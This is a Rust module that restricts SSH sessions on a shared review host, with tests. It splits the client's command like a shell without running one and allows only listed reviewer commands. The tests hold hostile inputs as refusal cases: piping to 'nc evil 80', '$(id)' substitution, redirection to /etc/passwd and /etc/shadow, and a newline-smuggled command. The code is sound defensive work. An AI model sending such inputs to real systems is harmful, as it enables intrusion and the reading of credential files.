//! What a session on a shared review host may run. The client's command
//! (`SSH_ORIGINAL_COMMAND`) is one string; it is split into words as a
//! POSIX shell would split it, and no shell ever runs. Whatever a shell
//! would expand, redirect, chain or glob is refused rather than taken
//! literally: a client who typed it expected a shell, and a reader of the
//! log should never have to wonder what ran. Then only the reviewer's
//! commands pass, without options that pick another database, another
//! person, or a file on the host.
//!
//! The split is written here rather than taken from a crate: what it
//! accepts is the security boundary, and it is smaller than the checks a
//! general shell-words crate would need around it (`shlex` drops `#…` as a
//! comment and cannot say whether a `;` was quoted).

/// What may be run over SSH, said with every refusal.
pub const ALLOWED: &str = "review [CAMPAIGN], pending, items CAMPAIGN, decide CAMPAIGN ITEM …, \
                           signoff CAMPAIGN …, campaign list, campaign show NAME, \
                           report CAMPAIGN --format F, verify, help";

/// The longest command accepted: notes are short, and nothing is gained
/// by reading megabytes a client sends.
pub const MAX_COMMAND: usize = 16 * 1024;

/// Commands a session runs, by their first word (`campaign` takes only
/// `list` and `show`).
const COMMANDS: [&str; 9] = [
    "review", "pending", "items", "decide", "signoff", "campaign", "report", "verify", "help",
];

/// Options no session may give, whatever the command: another database,
/// another person, a file or directory on the host.
const FORBIDDEN_OPTIONS: [&str; 7] = [
    "--db",
    "--as",
    "--out",
    "--out-dir",
    "--keep",
    "--from",
    "--config",
];

/// Characters a shell acts on outside quotes.
const SHELL_SYNTAX: &str = ";&|<>()$`*?[]{}!";

/// The words of `command`, as a POSIX shell would split a command without
/// expansions: blanks separate words, `'…'` keeps everything, `"…"` keeps
/// everything but `\"`, `\\`, `\$` and `` \` ``, and a backslash outside
/// quotes keeps the next character. Refused, saying why in one line:
/// control characters (a newline above all), anything a shell would
/// expand, redirect or chain (`;`, `|`, `$(…)`, `` `…` ``, `*`, `~`, `#`…)
/// outside single quotes, an unterminated quote, and very long input.
pub fn split(command: &str) -> Result<Vec<String>, String> {
    if command.len() > MAX_COMMAND {
        return Err(format!(
            "the command is {} bytes long, more than the {MAX_COMMAND} a session reads",
            command.len()
        ));
    }
    if let Some(c) = command.chars().find(|c| c.is_control()) {
        return Err(format!(
            "the command holds a control character ({}): one line of plain words, please",
            c.escape_unicode()
        ));
    }
    #[derive(PartialEq)]
    enum In {
        Blank,
        Word,
        Single,
        Double,
    }
    let shell = |c: char| {
        format!(
            "{c:?} means something to a shell, and none runs here: put it in single quotes if \
             it is part of a note"
        )
    };
    let mut words = Vec::new();
    let mut word = String::new();
    let mut state = In::Blank;
    let mut chars = command.chars().peekable();
    while let Some(c) = chars.next() {
        match state {
            In::Blank | In::Word => match c {
                ' ' => {
                    if state == In::Word {
                        words.push(std::mem::take(&mut word));
                    }
                    state = In::Blank;
                }
                '\'' => state = In::Single,
                '"' => state = In::Double,
                '\\' => match chars.next() {
                    Some(next) => {
                        word.push(next);
                        state = In::Word;
                    }
                    None => return Err("the command ends in a backslash".into()),
                },
                '#' | '~' if state == In::Blank => return Err(shell(c)),
                c if SHELL_SYNTAX.contains(c) => return Err(shell(c)),
                c => {
                    word.push(c);
                    state = In::Word;
                }
            },
            In::Single => match c {
                '\'' => state = In::Word,
                c => word.push(c),
            },
            In::Double => match c {
                '"' => state = In::Word,
                '\\' => match chars.peek() {
                    Some(&next) if "\"\\$`".contains(next) => {
                        word.push(next);
                        chars.next();
                    }
                    _ => word.push('\\'),
                },
                '$' | '`' => return Err(shell(c)),
                c => word.push(c),
            },
        }
    }
    match state {
        In::Single | In::Double => Err("the command has a quote that is never closed".into()),
        In::Word => {
            words.push(word);
            Ok(words)
        }
        In::Blank => Ok(words),
    }
}

/// Whether a session may run `words`: one of its commands, without an
/// option that names another database, another person or a file. (Options
/// whose value is a path are refused again once the command line is
/// parsed, whatever their name.)
pub fn check(words: &[String]) -> Result<(), String> {
    let Some(first) = words.first() else {
        return Ok(());
    };
    let shown = |w: &str| crate::domain::text::sanitize(w).into_owned();
    if !COMMANDS.contains(&first.as_str()) {
        return Err(format!("`{}` is not allowed over SSH", shown(first)));
    }
    if first == "campaign" {
        match words.get(1).map(String::as_str) {
            Some("list" | "show") => {}
            Some(other) => {
                return Err(format!(
                    "`campaign {}` is not allowed over SSH",
                    shown(other)
                ));
            }
            None => return Err("`campaign` needs `list` or `show NAME`".into()),
        }
    }
    for word in words {
        let name = word.split_once('=').map_or(word.as_str(), |(name, _)| name);
        if FORBIDDEN_OPTIONS.contains(&name) {
            return Err(format!("`{}` is not allowed over SSH", shown(name)));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(command: &str) -> Vec<String> {
        split(command).unwrap_or_else(|e| panic!("{command:?}: {e}"))
    }

    #[test]
    fn words_are_split_as_a_shell_splits_them() {
        assert_eq!(words("items  Q4"), ["items", "Q4"]);
        assert_eq!(words(""), Vec::<String>::new());
        assert_eq!(words("   "), Vec::<String>::new());
        assert_eq!(
            words(r#"decide Q4 12 attest --note "still needed; ticket (INC-7)""#),
            [
                "decide",
                "Q4",
                "12",
                "attest",
                "--note",
                "still needed; ticket (INC-7)"
            ]
        );
        assert_eq!(
            words(r#"decide Q4 1 attest --note 'it'\''s $HOME `x` "y"'"#),
            [
                "decide",
                "Q4",
                "1",
                "attest",
                "--note",
                "it's $HOME `x` \"y\""
            ]
        );
        assert_eq!(words(r#"a\ b "c\"d\\e\x" ''"#), ["a b", "c\"d\\e\\x", ""]);
        assert_eq!(words(r#"say "\$5""#), ["say", "$5"]);
        assert_eq!(words("x=#y a~b"), ["x=#y", "a~b"]);
    }

    #[test]
    fn hostile_commands_are_refused_saying_why_in_one_line() {
        for (command, why) in [
            ("items Q4; sh", "';' means something to a shell"),
            ("items Q4;sh", "';'"),
            ("items Q4 && id", "'&'"),
            ("items Q4 | nc evil 80", "'|'"),
            ("items $(id)", "'$'"),
            ("items \"$(id)\"", "'$'"),
            ("items \"`id`\"", "'`'"),
            ("items `id`", "'`'"),
            ("items Q4 > /etc/passwd", "'>'"),
            ("items < /etc/shadow", "'<'"),
            ("items Q*", "'*'"),
            ("items ~root", "'~'"),
            ("items Q4 # comment", "'#'"),
            ("items {a,b}", "'{'"),
            ("items Q4\nimport x", "control character (\\u{a})"),
            ("items Q4\r", "control character"),
            ("items\0", "control character"),
            ("items 'Q4", "never closed"),
            ("items \"Q4", "never closed"),
            ("items Q4\\", "ends in a backslash"),
        ] {
            let err = split(command).unwrap_err();
            assert!(err.contains(why), "{command:?}: {err}");
            assert!(!err.contains('\n'), "{command:?}: {err}");
        }
        let long = format!("items {}", "Q".repeat(MAX_COMMAND));
        assert!(split(&long).unwrap_err().contains("bytes long"));
    }

    #[test]
    fn only_the_reviewers_commands_pass() {
        for ok in [
            "review",
            "review Q4",
            "pending",
            "items Q4 --where state=undecided --json",
            "decide Q4 3 attest --note ok",
            "signoff Q4 --note done",
            "campaign list",
            "campaign show Q4",
            "report Q4 --format md",
            "verify",
            "help",
            "",
        ] {
            assert_eq!(check(&words(ok)), Ok(()), "{ok}");
        }
        for (refused, why) in [
            ("init", "`init` is not allowed"),
            ("import x.csv", "`import`"),
            ("people list", "`people`"),
            ("mode shared", "`mode`"),
            ("config show", "`config`"),
            ("demo", "`demo`"),
            ("backup /tmp/x", "`backup`"),
            ("session --person x", "`session`"),
            ("close Q4", "`close`"),
            ("--db /tmp/other.db items Q4", "`--db`"),
            ("items Q4 --db /tmp/other.db", "`--db`"),
            ("items Q4 --db=/tmp/other.db", "`--db`"),
            ("items Q4 --as anna@x", "`--as`"),
            ("report Q4 --format csv --out /tmp/r.csv", "`--out`"),
            ("report Q4 --out=/tmp/r.csv", "`--out`"),
            ("campaign new Q5 --due 2027-01-01", "`campaign new`"),
            ("campaign", "needs `list` or `show NAME`"),
            ("ITEMS Q4", "`ITEMS`"),
            ("./recert items", "`./recert`"),
        ] {
            let err = check(&words(refused)).unwrap_err();
            assert!(err.contains(why), "{refused}: {err}");
        }
        // What a refusal quotes back is escaped.
        let err = check(&["\u{1b}[31mred".to_string()]).unwrap_err();
        assert!(!err.contains('\u{1b}'), "{err}");
    }
}
